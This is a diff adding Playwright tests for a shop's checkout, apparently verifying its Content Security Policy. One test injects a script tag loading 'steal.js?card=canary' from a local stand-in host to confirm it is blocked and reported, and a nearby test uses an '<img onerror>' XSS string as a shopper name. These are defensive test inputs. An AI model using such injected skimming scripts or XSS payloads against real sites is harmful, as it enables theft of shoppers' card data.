@@ -45,6 +45,43 @@ def test_only_known_scripts_run_where_a_card_is_typed(window):
     }
 
 
+def test_every_kind_of_page_keeps_to_its_policy(opened, shop):
+    """E11, E24: the console stays clean, and no report of a breach is sent."""
+    window = opened(shop, **DESKTOP)
+    for path in ("/", "/cart"):
+        window.page.goto(path)
+        assert window.page.evaluate("document.styleSheets.length") == 1
+    window.adds()
+    window.opens_checkout()
+    window.pays_by("PromptPay")
+    window.sees("waiting")
+    picture = window.page.locator("main img[src*='/code']")
+    expect(picture).to_have_js_property("complete", True)
+    assert picture.evaluate("one => one.naturalWidth") > 0
+    for more in ("/complete", ""):
+        window.page.goto(f"/orders/{window.order_id}{more}")
+    assert window.page.evaluate(ASK) is True
+    assert not window.posts("/reports")
+
+
+# What payment.js does while an order waits.
+ASK = "fetch(document.querySelector('[data-watch]').dataset.watch).then(one => one.ok)"
+
+
+def test_a_script_that_was_smuggled_in_is_stopped_and_told(window, caplog):
+    """E24: the policy holds on the payment page, and the shop hears of it."""
+    window.page.evaluate("""
+        const script = document.createElement("script");
+        script.src = "http://127.0.0.1:9/steal.js?card=canary";
+        document.body.append(script);
+    """)
+    eventually(lambda: window.hears("violates the following Content Security Policy"))
+    eventually(lambda: "blocked=http://127.0.0.1:9/steal.js " in caplog.text)
+    assert "directive=script-src-elem" in caplog.text
+    assert "canary" not in caplog.text
+    window.complaints.clear()
+
+
 def test_names_that_look_like_markup_stay_words(window, asks_bank):
     """E11: what a shopper types is shown as they typed it, and never runs."""
     name = "<img src=x onerror=alert(1)>"
